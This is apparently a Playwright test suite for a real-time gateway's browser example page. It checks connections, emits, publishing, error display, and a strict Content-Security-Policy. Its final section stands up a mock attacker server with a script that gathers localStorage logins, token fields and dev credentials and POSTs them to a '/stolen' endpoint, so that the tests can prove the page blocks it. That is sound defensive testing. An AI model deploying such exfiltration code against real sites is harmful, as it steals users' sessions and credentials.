// The example page (GET /, client-example/index.html) in a real headless Chromium, driven through
// the controls' accessible names as a person would use them: dev mode's prefilled token and key,
// connecting to every namespace (the plain WebSocket endpoint included) over each transport, emits
// with acks from the emit box and the ready-made forms, the publish panel closing the loop, errors
// on screen, the page opened from disk, and socket.io-client's bundle served by the gateway. Every
// request the page makes is checked to stay on the gateway. The README's first steps on a laptop
// screen. Beside a hostile origin: no script of another origin runs on the gateway's (where the
// admin UI's login and dev mode's credentials are), whatever the address or the Gateway URL field
// says, and `/` and `/admin/` carry a strict Content-Security-Policy. Screenshots go to
// tests/js/output/.

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync } from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';
import * as h from './helpers.js';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const OUTPUT = path.join(HERE, 'output', 'page');
const PAGE_FILE = path.resolve(HERE, '../../client-example/index.html');
/** Debian's chromium; playwright's own browser downloads are not used. */
const CHROMIUM = process.env.CHROMIUM_BIN ?? '/usr/bin/chromium';

let browser;

before(async () => {
  mkdirSync(OUTPUT, { recursive: true });
  browser = await chromium.launch({ executablePath: CHROMIUM, timeout: 30000 });
});
after(async () => {
  await browser?.close();
});

/**
 * A fresh browser page on `url`, recording every request and WebSocket it opens. Requests to any
 * host but the gateway's are recorded as foreign and aborted, unless `letForeignThrough` (to
 * show what a hostile origin would get). `file://` pages (opened from disk) are the page itself,
 * not a request leaving the machine.
 */
async function openPage(t, gw, url = `${gw.url}/`, { viewport = { width: 1400, height: 1000 }, letForeignThrough = false, before } = {}) {
  const context = await browser.newContext({ viewport });
  context.setDefaultTimeout(h.TIMEOUT);
  context.setDefaultNavigationTimeout(h.TIMEOUT);
  t.after(() => context.close());
  const gateway = new URL(gw.url).host;
  const seen = { requests: [], foreign: [], websockets: [], errors: [] };
  await context.route('**/*', (route) => {
    const target = new URL(route.request().url());
    seen.requests.push(target.href);
    if (target.protocol === 'file:' || target.host === gateway) return route.continue();
    seen.foreign.push(target.href);
    return letForeignThrough ? route.continue() : route.abort();
  });
  const page = await context.newPage();
  page.on('websocket', (ws) => seen.websockets.push(ws.url()));
  page.on('pageerror', (error) => seen.errors.push(error.message));
  // What the page's Content-Security-Policy refused: the page itself never tries anything it forbids.
  page.on('console', (message) => {
    if (message.type() === 'error' && /Content Security Policy|Trusted ?(Type|Script|HTML)/i.test(message.text())) seen.errors.push(message.text());
  });
  if (before) await before(page);
  await page.goto(url);
  return { page, seen, gateway };
}

/** Asserts that the page asked nothing of any host but the gateway and threw no error. */
function assertStayedOnGateway({ seen, gateway }) {
  assert.deepEqual(seen.foreign, [], 'requests that left the gateway');
  for (const ws of seen.websockets) assert.equal(new URL(ws).host, gateway, `WebSocket to ${ws}`);
  assert.deepEqual(seen.errors, [], 'uncaught errors in the page');
}

const screenshot = (page, name) => page.screenshot({ path: path.join(OUTPUT, `${name}.png`), fullPage: true });

/** Waits until `locator`'s text matches `pattern`; resolves to the text. */
async function textMatching(locator, pattern, what = String(pattern)) {
  let last = '';
  return h.eventually(async () => {
    last = (await locator.textContent()) ?? '';
    return pattern.test(last) ? last : null;
  }, `${what} (last seen: ${JSON.stringify(last.slice(0, 300))})`);
}

const control = (page, name) => page.getByLabel(name, { exact: true });
const button = (page, name) => page.getByRole('button', { name, exact: true });
const status = (page) => page.getByRole('status', { name: 'Connection status' });
const errors = (page) => page.getByRole('alert', { name: 'Errors' });
const logEntries = (page) => page.getByRole('log', { name: 'Log' }).locator('li');

/** The text of the newest log entry of this kind (in, ack, error, ...) and name matching `pattern`. */
async function logEntry(page, kind, name, pattern = /./) {
  return h.eventually(async () => {
    for (const entry of await logEntries(page).all()) {
      const [entryKind, entryName, text] = await Promise.all([
        entry.locator('.kind').textContent(),
        entry.locator('.name').textContent(),
        entry.textContent(),
      ]);
      if (entryKind === kind && entryName === name && pattern.test(text)) return text;
    }
    return null;
  }, `a log entry "${kind} ${name}" matching ${pattern}`);
}

/** Chooses the namespace (by its label in the select) and transports, connects, and waits. */
async function connect(page, namespace, { transports = 'websocket', expect = /^connected/ } = {}) {
  if (await button(page, 'Disconnect').isEnabled()) await button(page, 'Disconnect').click();
  await control(page, 'Namespace').selectOption({ label: namespace });
  if (!namespace.includes('plain WebSocket')) await control(page, 'Transports').selectOption(transports);
  await button(page, 'Connect').click();
  return textMatching(status(page), expect, `status after connecting to ${namespace}`);
}

/** Types an event and payload into the emit box, emits, and resolves to the ack shown. */
async function emit(page, event, payload) {
  await control(page, 'Event').fill(event);
  await control(page, 'Payload').fill(payload === undefined ? '' : JSON.stringify(payload));
  await button(page, 'Emit').click();
  const text = await textMatching(page.getByRole('status', { name: 'Ack' }), /^(ack: |sent |no ack)/, `the ack of ${event}`);
  return text.startsWith('ack: ') ? JSON.parse(text.slice(5)) : text;
}

/** Publishes through the page's publish panel and resolves to the result shown. */
async function publishFromPage(page, type, data, tenant) {
  await control(page, 'Event type').fill(type);
  if (tenant !== undefined) await control(page, 'Tenant').fill(tenant);
  await control(page, 'Data').fill(JSON.stringify(data));
  await button(page, 'Publish').click();
  return textMatching(page.getByRole('status', { name: 'Publish result' }), /^\d{3}: /, `the result of publishing ${type}`);
}

describe('the example page, served by a gateway in dev mode', () => {
  let gw;
  before(async () => {
    gw = await h.startGateway({ env: { JWT_SECRET: undefined, API_KEYS: undefined } });
  });
  after(async () => {
    await gw?.stop();
  });

  it('prefills the demo token and API key, lists every namespace, and loads nothing from outside the gateway', async (t) => {
    const session = await openPage(t, gw);
    const { page } = session;
    const token = await h.eventually(async () => (await control(page, 'Token').inputValue()) || null, 'a prefilled token');
    const claims = JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString());
    assert.equal(claims.sub, 'demo-user');
    assert.equal(claims.tenantId, 'demo-tenant');
    const apiKey = await h.eventually(async () => (await control(page, 'API key').inputValue()) || null, 'a prefilled API key');
    const dev = await h.api(gw.url, '/api/v1/dev', undefined, { headers: {} });
    assert.equal(apiKey, dev.body.apiKey);
    assert.match(apiKey, /^dev-/);
    assert.equal(await control(page, 'Tenant').inputValue(), 'demo-tenant');

    const options = await control(page, 'Namespace').locator('option').allTextContents();
    assert.deepEqual([...options].sort(), ['/', '/realtime', '/workflow', '/ws', '/ws (plain WebSocket)']);
    assert.equal(await control(page, 'Namespace').inputValue(), 'socketio:/workflow');
    await page.waitForFunction(() => typeof window.io === 'function', null, { timeout: h.TIMEOUT });
    assert.ok(session.seen.requests.includes(`${gw.url}/socket.io/socket.io.min.js`), session.seen.requests.join('\n'));
    for (const file of ['socket.io.js', 'socket.io.min.js']) {
      const response = await fetch(`${gw.url}/socket.io/${file}`, { signal: AbortSignal.timeout(h.TIMEOUT) });
      assert.equal(response.status, 200, file);
      assert.match(await response.text(), /Socket\.IO v4\.\d+\.\d+/, file);
    }
    for (const name of ['Gateway URL', 'Transports', 'Event', 'Payload', 'Data', 'Filter']) await control(page, name).waitFor();
    for (const name of ['Connect', 'Disconnect', 'Emit', 'Publish', 'Clear']) await button(page, name).waitFor();
    await screenshot(page, 'dev-mode-prefilled');
    assertStayedOnGateway(session);
  });

  it('connects to each namespace, the plain WebSocket endpoint included, and logs what it sends on connect', async (t) => {
    const session = await openPage(t, gw);
    const { page } = session;
    await h.eventually(async () => (await control(page, 'Token').inputValue()) || null, 'a prefilled token');
    const welcomes = [
      ['/workflow', 'connected', /"tenantId": "demo-tenant"/],
      ['/realtime', 'connection:success', /"authenticated": true/],
      ['/ws', 'connection.confirmed', /"tenant\.demo-tenant\.users"/],
      ['/', null],
      ['/ws (plain WebSocket)', null],
    ];
    for (const [namespace, welcome, pattern] of welcomes) {
      const shown = await connect(page, namespace);
      assert.match(shown, namespace.includes('plain') ? /^connected to \/ws \(plain WebSocket\)/ : /over websocket$/);
      if (welcome) await logEntry(page, 'in', welcome, pattern);
      await button(page, 'Disconnect').click();
      await textMatching(status(page), /^disconnected/, `disconnected from ${namespace}`);
    }
    assert.equal(await page.locator('#errors').textContent(), '', 'no error shown');
    assert.ok(session.seen.websockets.some((ws) => ws.startsWith(`ws://${session.gateway}/ws?token=`)), session.seen.websockets.join('\n'));
    await screenshot(page, 'each-namespace');
    assertStayedOnGateway(session);
  });

  it('emits with an ack from the emit box and from the ready-made forms, made from the specs', async (t) => {
    const session = await openPage(t, gw);
    const { page } = session;
    await h.eventually(async () => (await control(page, 'Token').inputValue()) || null, 'a prefilled token');
    await connect(page, '/workflow');

    const execution = `e-${h.uid()}`;
    const ack = await emit(page, 'subscribe', { type: 'execution', resourceId: execution });
    assert.equal(ack.subscriptionKey, `execution:${execution}`);
    await logEntry(page, 'ack', 'subscribe', new RegExp(`execution:${execution}`));
    await logEntry(page, 'in', 'initial_data');

    // The subscribe form: an enum as a select, a nested object (filters) as a fieldset.
    const form = page.getByRole('form', { name: 'subscribe form', exact: true });
    await form.getByLabel('type *', { exact: true }).selectOption({ label: 'logs' });
    await form.getByLabel('resourceId', { exact: true }).fill(execution);
    await form.getByLabel('logLevel', { exact: true }).selectOption({ label: 'error' });
    await form.getByRole('button', { name: 'Send subscribe' }).click();
    await textMatching(page.getByRole('status', { name: 'Ack' }), new RegExp(`"subscriptionKey": "logs:${execution}:error:\\*"`), 'the logs subscription ack');
    assert.deepEqual(JSON.parse(await control(page, 'Payload').inputValue()), { type: 'logs', resourceId: execution, filters: { logLevel: 'error' } });

    // A form whose payload may be null sends none when left empty.
    await page.getByRole('form', { name: 'ping form', exact: true }).getByRole('button', { name: 'Send ping' }).click();
    await textMatching(page.getByRole('status', { name: 'Ack' }), /"timestamp": "\d{4}-/, 'the pong ack');

    // An invalid payload: the error event and the ack's error are both shown, the socket stays.
    await page.getByRole('form', { name: 'unsubscribe form', exact: true }).getByRole('button', { name: 'Send unsubscribe' }).click();
    await textMatching(errors(page), /^error \(validation\): .*subscriptionKey/, 'the validation error');
    assert.match(await status(page).textContent(), /^connected/);

    // Forms follow the namespace: /realtime's events, with their limits.
    await button(page, 'Disconnect').click();
    await control(page, 'Namespace').selectOption({ label: '/realtime' });
    const contract = page.getByRole('form', { name: 'subscribe:contract form', exact: true });
    await contract.getByText('30/min').waitFor();
    await connect(page, '/realtime');
    await contract.getByLabel('contractId *', { exact: true }).fill('c-1');
    await contract.getByRole('button', { name: 'Send subscribe:contract' }).click();
    await textMatching(page.getByRole('status', { name: 'Ack' }), /"room": "contract:c-1"/, 'the contract subscription ack');

    // The log's filter and clear button.
    await control(page, 'Filter').fill('subscribe:contract');
    await h.eventually(async () => {
      const visible = await page.getByRole('log', { name: 'Log' }).locator('li:visible').allInnerTexts();
      return visible.length > 0 && visible.every((text) => text.includes('subscribe:contract'));
    }, 'only matching entries visible');
    await screenshot(page, 'emit-and-forms');
    await button(page, 'Clear').click();
    assert.equal(await logEntries(page).count(), 0);
    assertStayedOnGateway(session);
  });

  it('receives an event published from its own publish panel, on /workflow and on the plain WebSocket endpoint', async (t) => {
    const session = await openPage(t, gw);
    const { page } = session;
    await h.eventually(async () => (await control(page, 'API key').inputValue()) || null, 'a prefilled API key');
    const execution = `e-${h.uid()}`;

    await connect(page, '/workflow');
    await emit(page, 'subscribe', { type: 'execution', resourceId: execution });
    const result = await publishFromPage(page, 'execution.started', { executionId: execution, workflowId: 'w1', status: 'running' });
    assert.match(result, /^202: /);
    await logEntry(page, 'in', 'update', new RegExp(`"executionId": "${execution}"`));
    await screenshot(page, 'publish-loop');

    await connect(page, '/ws (plain WebSocket)');
    const sent = await emit(page, 'subscribe', { channel: `executions:${execution}` });
    assert.match(sent, /^sent /);
    await logEntry(page, 'in', 'subscribed', new RegExp(`executions:${execution}`));
    await publishFromPage(page, 'execution.completed', { execution_id: execution, status: 'completed' });
    await logEntry(page, 'in', 'execution.completed', /"status": "completed"/);

    // A refused publish shows the API's answer.
    await control(page, 'API key').fill('wrong');
    assert.match(await publishFromPage(page, 'execution.started', { executionId: execution }), /^401: /);
    assertStayedOnGateway(session);
  });

  it("follows the README on a laptop screen (1366x768): Connect, Send subscribe as it comes, Publish as it comes, the update in view", async (t) => {
    const session = await openPage(t, gw, `${gw.url}/`, { viewport: { width: 1366, height: 768 } });
    const { page } = session;
    await h.eventually(async () => (await control(page, 'API key').inputValue()) || null, 'a prefilled API key');
    await button(page, 'Connect').click();
    await textMatching(status(page), /^connected/, 'connected');
    // The emit box's hints read as hints, not as values someone typed.
    for (const name of ['Event', 'Payload']) {
      assert.equal(await control(page, name).inputValue(), '', name);
      assert.match(await control(page, name).getAttribute('placeholder'), /^(an? |JSON)/, `${name}'s placeholder`);
    }

    const form = page.getByRole('form', { name: 'subscribe form', exact: true });
    await form.getByRole('button', { name: 'Send subscribe' }).click();
    await textMatching(page.getByRole('status', { name: 'Ack' }), /"subscriptionKey": "execution:e1"/, 'the ack of the prefilled subscribe form');
    assert.equal(await page.locator('#errors').textContent(), '', 'no error shown');

    await button(page, 'Publish').click();
    await textMatching(page.getByRole('status', { name: 'Publish result' }), /^202: /, 'the publish accepted');
    await logEntry(page, 'in', 'update', /"executionId": "e1"/);
    // Where the Publish button left the page: the update is on screen, not scrolled away.
    const update = logEntries(page).filter({ has: page.locator('.name', { hasText: /^update$/ }) }).first();
    const seen = await update.evaluate((entry) => {
      const box = entry.getBoundingClientRect();
      const inViewport = box.top >= 0 && box.top + 20 <= window.innerHeight && box.left >= 0 && box.right <= window.innerWidth;
      const atTop = document.elementFromPoint(box.left + 10, box.top + 8);
      return { inViewport, visible: inViewport && entry.contains(atTop), box: { top: box.top, bottom: box.bottom }, scrollY: window.scrollY, height: window.innerHeight };
    });
    assert.ok(seen.visible, `the update entry on screen after Publish: ${JSON.stringify(seen)}`);
    await page.screenshot({ path: path.join(OUTPUT, 'readme-walkthrough-1366x768.png') });
    assertStayedOnGateway(session);
  });

  it('works over polling only, with no WebSocket opened', async (t) => {
    const session = await openPage(t, gw);
    const { page } = session;
    await h.eventually(async () => (await control(page, 'Token').inputValue()) || null, 'a prefilled token');
    assert.match(await connect(page, '/workflow', { transports: 'polling' }), /over polling$/);
    const ack = await emit(page, 'ping');
    assert.match(ack.timestamp, /^\d{4}-/);
    assert.deepEqual(session.seen.websockets, []);
    assert.ok(session.seen.requests.some((u) => u.includes('/socket.io/?EIO=4&transport=polling')), 'polling requests');
    assertStayedOnGateway(session);
  });

  it("shows a bad token's error event (type and message), and a refused plain WebSocket", async (t) => {
    const session = await openPage(t, gw);
    const { page } = session;
    await h.eventually(async () => (await control(page, 'Token').inputValue()) || null, 'a prefilled token');
    await control(page, 'Token').fill('not-a-token');
    await connect(page, '/workflow', { expect: /^disconnected: io server disconnect/ });
    await textMatching(errors(page), /^error \(auth\): Invalid authentication token/, 'the auth error');
    await logEntry(page, 'error', 'error', /"type": "auth"/);
    await screenshot(page, 'bad-token');

    await connect(page, '/ws (plain WebSocket)', { expect: /^refused: / });
    await textMatching(errors(page), /^WebSocket refused: /, 'the refusal');
    assertStayedOnGateway(session);
  });

  it('works opened from disk, given the gateway URL (?gateway=)', async (t) => {
    const file = pathToFileURL(PAGE_FILE);
    file.searchParams.set('gateway', gw.url);
    const session = await openPage(t, gw, file.href);
    const { page } = session;
    assert.equal(await control(page, 'Gateway URL').inputValue(), gw.url);
    // The namespaces' description is public to any origin; dev credentials are not (origin null).
    await page.getByRole('form', { name: 'subscribe form', exact: true }).waitFor();
    await control(page, 'Token').fill(h.mintToken());
    await control(page, 'Token').dispatchEvent('input');
    await button(page, 'Connect').click();
    // Dev mode signs with its own random secret: the suite's token is refused, which proves the
    // round trip through the gateway from a file:// page as well as a welcome would.
    await textMatching(errors(page), /^error \(auth\): Invalid authentication token/, 'the gateway answering the page');
    assertStayedOnGateway(session);
  });
});

describe('the example page, served by a configured gateway', () => {
  let gw;
  before(async () => {
    // A custom Socket.IO path, and one new unauthenticated Engine.IO session per client per
    // minute, so a connect after a session that never authenticated is refused at the transport
    // level (connect_error).
    gw = await h.startGateway({ env: { SOCKETIO_PATH: '/rt', WS_HANDSHAKE_RATE_LIMIT: '1/1m' } });
  });
  after(async () => {
    await gw?.stop();
  });

  it('prefills nothing outside dev mode, follows SOCKETIO_PATH, and shows why a connect is refused', async (t) => {
    const session = await openPage(t, gw);
    const { page } = session;
    await page.waitForFunction(() => typeof window.io === 'function', null, { timeout: h.TIMEOUT });
    assert.equal(await control(page, 'Token').inputValue(), '');
    assert.equal(await control(page, 'API key').inputValue(), '');
    assert.deepEqual((await h.api(gw.url, '/api/v1/dev', undefined, { headers: {} })).body, { devMode: false });

    await control(page, 'Token').fill(h.mintToken({ tenantId: `page-${h.uid()}` }));
    await connect(page, '/workflow');
    await logEntry(page, 'in', 'connected');
    assert.ok(session.seen.websockets.every((ws) => new URL(ws).pathname === '/rt/'), session.seen.websockets.join('\n'));
    await button(page, 'Disconnect').click();

    // An authenticated session gave its handshake back; one that never authenticates keeps it.
    const idle = await fetch(`${gw.url}/rt/?EIO=4&transport=polling`, { signal: AbortSignal.timeout(h.TIMEOUT) });
    assert.equal(idle.status, 200);
    await connect(page, '/workflow', { transports: 'polling', expect: /^connect_error: / });
    await textMatching(errors(page), /^connect_error: xhr poll error.*429/, 'the refusal and its status');
    await screenshot(page, 'connect-error');
    assertStayedOnGateway(session);
  });
});

describe("socket.io-client's browser bundle", () => {
  let gw;
  before(async () => {
    gw = await h.startGateway({ env: { SOCKETIO_PATH: '/custom-io' } });
  });
  after(async () => {
    await gw?.stop();
  });

  it("is served under SOCKETIO_PATH, byte for byte npm's release, with its source maps and a revalidating ETag", async () => {
    const dist = path.join(HERE, 'node_modules', 'socket.io-client', 'dist');
    for (const file of ['socket.io.js', 'socket.io.min.js', 'socket.io.js.map', 'socket.io.min.js.map']) {
      const response = await fetch(`${gw.url}/custom-io/${file}`, { signal: AbortSignal.timeout(h.TIMEOUT) });
      assert.equal(response.status, 200, file);
      assert.match(response.headers.get('content-type'), file.endsWith('.map') ? /^application\/json/ : /^application\/javascript/);
      assert.ok(Buffer.from(await response.arrayBuffer()).equals(readFileSync(path.join(dist, file))), `${file} is npm's`);
      const again = await fetch(`${gw.url}/custom-io/${file}`, { headers: { 'If-None-Match': response.headers.get('etag') }, signal: AbortSignal.timeout(h.TIMEOUT) });
      assert.equal(again.status, 304, file);
    }
    // Not under the default path here, and nothing else of socketioxide's path is taken.
    const moved = await fetch(`${gw.url}/socket.io/socket.io.js`, { signal: AbortSignal.timeout(h.TIMEOUT) });
    assert.equal(moved.status, 404);
    const handshake = await fetch(`${gw.url}/custom-io/?EIO=4&transport=polling`, { signal: AbortSignal.timeout(h.TIMEOUT) });
    assert.equal(handshake.status, 200);
    assert.match(await handshake.text(), /^0\{"sid"/);
  });

  it('tells the page which release it is, and the page where the socket.io path is', async () => {
    const { status, body } = await h.api(gw.url, '/api/v1/namespaces', undefined, { headers: {} });
    assert.equal(status, 200);
    const lock = JSON.parse(readFileSync(path.join(HERE, 'package-lock.json'), 'utf8'));
    assert.deepEqual(body.socketio, { path: '/custom-io', client: { version: lock.packages['node_modules/socket.io-client'].version, served: true } });
    const hub = body.namespaces.find((ns) => ns.transport === 'websocket' && ns.path === '/ws');
    assert.deepEqual(hub.clientEvents.map((e) => e.name), ['ping', 'subscribe', 'unsubscribe']);
  });
});

// ---------------------------------------------------------------------------------------------
// A hostile origin next to the gateway
// ---------------------------------------------------------------------------------------------

/**
 * A server on another origin that plays an attacker. Its socket.io-client "bundle", if a page ever
 * runs it, takes what it can reach on that page's origin (localStorage, where the admin UI keeps
 * its login; dev mode's `/api/v1/dev`; the token field) and posts it back to `/stolen`. It answers
 * the page's other requests as a gateway would (`catalog` as its namespaces, from any origin), so
 * nothing but the page itself stands in the way. Resolves to `{url, requests, stolen}`.
 */
async function startAttacker(t, { catalog }) {
  const requests = [];
  const stolen = [];
  let hostileScript = '';
  const server = http.createServer((request, response) => {
    const chunks = [];
    request.on('data', (chunk) => chunks.push(chunk));
    request.on('end', () => {
      requests.push(`${request.method} ${request.url}`);
      const open = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' };
      const route = new URL(request.url, 'http://attacker').pathname;
      if (route === '/stolen') {
        stolen.push(Buffer.concat(chunks).toString());
        response.writeHead(204, open).end();
      } else if (route.endsWith('.js')) {
        response.writeHead(200, { 'Content-Type': 'application/javascript' }).end(hostileScript);
      } else if (route === '/api/v1/namespaces') {
        response.writeHead(200, { ...open, 'Content-Type': 'application/json' }).end(JSON.stringify(catalog));
      } else if (route === '/api/v1/dev') {
        response.writeHead(200, { ...open, 'Content-Type': 'application/json' }).end('{"devMode":false}');
      } else {
        response.writeHead(404, open).end();
      }
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => new Promise((resolve) => {
    server.closeAllConnections();
    server.close(resolve);
  }));
  const url = `http://127.0.0.1:${server.address().port}`;
  hostileScript = `(async () => {
    window.hostileScriptRan = true;
    const loot = { origin: location.origin, localStorage: { ...localStorage }, token: document.getElementById('token')?.value };
    try { loot.dev = await (await fetch('/api/v1/dev')).json(); } catch (error) { loot.dev = String(error); }
    await fetch(${JSON.stringify(`${url}/stolen`)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
  })();`;
  return { url, requests, stolen };
}

/** `Content-Security-Policy` as `{directive: [sources]}`. */
const parsePolicy = (header) => Object.fromEntries(header.split(';').map((d) => d.trim().split(/\s+/)).filter(([name]) => name).map(([name, ...sources]) => [name.toLowerCase(), sources]));

/** The sources that govern `directive` (fetch directives fall back to `default-src`). */
function effectiveSources(policy, directive) {
  if (policy[directive]) return policy[directive];
  const fetchDirective = directive.endsWith('-src');
  return fetchDirective ? policy['default-src'] ?? ['*'] : ['*'];
}

/** Asserts the policy a page served by the gateway must have: its own scripts only, no plugins, no base, no form target, no framing. */
function assertStrictPolicy(header, what) {
  assert.ok(header, `${what} sends a Content-Security-Policy`);
  const policy = parsePolicy(header);
  assert.deepEqual(policy['default-src'], ["'none'"], `${what}: default-src`);
  const scripts = effectiveSources(policy, 'script-src');
  for (const source of scripts) assert.match(source, /^('self'|'sha256-[A-Za-z0-9+/]+=*')$/, `${what}: script-src ${scripts.join(' ')}`);
  for (const directive of ['script-src-elem', 'script-src-attr']) assert.equal(policy[directive], undefined, `${what}: no ${directive} to widen script-src`);
  for (const directive of ['object-src', 'base-uri', 'form-action', 'frame-ancestors']) {
    assert.deepEqual(effectiveSources(policy, directive), ["'none'"], `${what}: ${directive}`);
  }
  return policy;
}

const sha256 = (text) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

describe('the page and the admin UI on one origin, with a hostile origin around', () => {
  let gw;
  let catalog;
  before(async () => {
    const run = spawnSync(h.GATEWAY_BIN, ['hash-password', '--cost', '4'], { input: 'admin password\n', encoding: 'utf8', timeout: 15000 });
    assert.equal(run.status, 0, run.stderr);
    // Dev mode, with the admin view on: what the issue's attack reached.
    gw = await h.startGateway({ env: { JWT_SECRET: undefined, API_KEYS: undefined, ADMIN_USERNAME: 'operator', ADMIN_PASSWORD_HASH: run.stdout.trim() } });
    catalog = (await h.api(gw.url, '/api/v1/namespaces', undefined, { headers: {} })).body;
  });
  after(async () => {
    await gw?.stop();
  });

  /** The admin UI's login, as it keeps it on the gateway's origin. */
  const withAdminLogin = (page) => page.addInitScript(() => {
    if (location.protocol.startsWith('http')) localStorage.setItem('session_id', 'the-operators-admin-login');
  });

  it('runs no script from a gateway named in its address (?gateway=), and sends that origin nothing', async (t) => {
    const attacker = await startAttacker(t, { catalog });
    const session = await openPage(t, gw, `${gw.url}/?gateway=${encodeURIComponent(attacker.url)}`, { letForeignThrough: true, before: withAdminLogin });
    const { page } = session;
    // Ready (its own socket.io-client loaded), or robbed: whichever comes first.
    await h.eventually(async () => attacker.stolen.length > 0 || page.evaluate(() => typeof window.io === 'function'), 'the page ready, or the attacker served');
    assert.deepEqual(attacker.stolen, [], 'what the hostile script took');
    assert.equal(await page.evaluate(() => window.hostileScriptRan), undefined);
    assert.deepEqual(attacker.requests, [], 'requests that reached the origin named in the address');
    assert.ok(session.seen.requests.includes(`${gw.url}/socket.io/socket.io.min.js`), session.seen.requests.join('\n'));
    assert.equal(await control(page, 'Gateway URL').inputValue(), gw.url);
    await textMatching(page.locator('#notice'), new RegExp(`${attacker.url.replace(/[.:/]/g, '\\$&')}.*not used`), 'the notice that the address named another gateway');
    // It still works with its own gateway.
    await h.eventually(async () => (await control(page, 'Token').inputValue()) || null, 'a prefilled token');
    await connect(page, '/workflow');
    await screenshot(page, 'hostile-gateway-in-address');
    assert.deepEqual(session.seen.errors, [], 'uncaught errors in the page');
  });

  it('connects to another gateway typed into it with its own socket.io-client, and carries no prefilled credential there', async (t) => {
    const attacker = await startAttacker(t, { catalog });
    const session = await openPage(t, gw, `${gw.url}/`, { letForeignThrough: true, before: withAdminLogin });
    const { page } = session;
    await h.eventually(async () => (await control(page, 'API key').inputValue()) || null, 'a prefilled API key');
    await page.waitForFunction(() => typeof window.io === 'function', null, { timeout: h.TIMEOUT });
    await control(page, 'Gateway URL').fill(`${attacker.url}/some/path?x=1#y`);
    await control(page, 'Gateway URL').dispatchEvent('change');
    await h.eventually(() => attacker.requests.includes('GET /api/v1/namespaces'), 'the other gateway asked for its namespaces');
    assert.equal(await control(page, 'Gateway URL').inputValue(), attacker.url, 'only the origin is kept');
    // Dev mode's token and key belong to the gateway that gave them.
    assert.equal(await control(page, 'Token').inputValue(), '');
    assert.equal(await control(page, 'API key').inputValue(), '');
    await control(page, 'Token').fill('a-token-for-the-other-gateway');
    await connect(page, '/workflow', { transports: 'polling', expect: /^connect_error: / });
    assert.ok(attacker.requests.some((r) => r.startsWith('GET /socket.io/?EIO=4&transport=polling')), attacker.requests.join('\n'));
    assert.deepEqual(attacker.requests.filter((r) => /\.js(\?|$)/.test(r)), [], 'scripts asked of the other gateway');
    assert.deepEqual(attacker.stolen, []);
    assert.deepEqual(session.seen.errors, [], 'uncaught errors in the page');
  });

  it('sends a strict Content-Security-Policy with / and with /admin/, naming exactly their own scripts', async () => {
    const page = await fetch(`${gw.url}/`, { signal: AbortSignal.timeout(h.TIMEOUT) });
    const policy = assertStrictPolicy(page.headers.get('content-security-policy'), '/');
    // What the browser runs: comments aside (they may mention the tags).
    const html = (await page.text()).replace(/<!--[\s\S]*?-->/g, '');
    const inline = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
    assert.equal(inline.length, 1, 'one inline script');
    assert.deepEqual(policy['script-src'].filter((s) => s.startsWith("'sha256-")), inline.map(sha256), 'the inline script, by hash');
    assert.ok(!/<script[^>]* src=/.test(html), 'no script element names a source');
    assert.ok(!/ on[a-z]+=/i.test(html), 'no inline event handler');
    const styles = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((m) => m[1]);
    assert.deepEqual(policy['style-src'], styles.map(sha256), 'the inline stylesheet, by hash, and nothing else');
    assert.ok(!/ style=/.test(html), 'no style attribute');

    const admin = await fetch(`${gw.url}/admin/`, { signal: AbortSignal.timeout(h.TIMEOUT) });
    assert.equal(admin.status, 200);
    const adminPolicy = assertStrictPolicy(admin.headers.get('content-security-policy'), '/admin/');
    assert.deepEqual(adminPolicy['script-src'], ["'self'"]);
    assert.deepEqual(adminPolicy['connect-src'], ["'self'"]);
    assert.ok(!/<script>/.test(await admin.text()), 'the admin UI has no inline script');
  });

  it('does not run a script injected from another origin, as if the page had a hole', async (t) => {
    const attacker = await startAttacker(t, { catalog });
    const session = await openPage(t, gw, `${gw.url}/`, { letForeignThrough: true, before: withAdminLogin });
    const { page } = session;
    await page.waitForFunction(() => typeof window.io === 'function', null, { timeout: h.TIMEOUT });
    const outcome = await page.evaluate((src) => new Promise((resolve) => {
      const timer = setTimeout(() => resolve('no answer'), 5000);
      const done = (what) => {
        clearTimeout(timer);
        resolve(what);
      };
      document.addEventListener('securitypolicyviolation', (e) => done(`refused by ${e.effectiveDirective}`), { once: true });
      try {
        const script = document.createElement('script');
        script.onload = () => done('loaded');
        script.src = src;
        document.head.append(script);
      } catch (error) {
        done(`refused: ${error.name}`);
      }
    }), `${attacker.url}/socket.io/socket.io.min.js`);
    assert.match(outcome, /^refused/);
    assert.ok(session.seen.errors.length > 0, 'the browser reports what the policy refused');
    assert.deepEqual(attacker.stolen, []);
    assert.deepEqual(attacker.requests, []);
  });
});
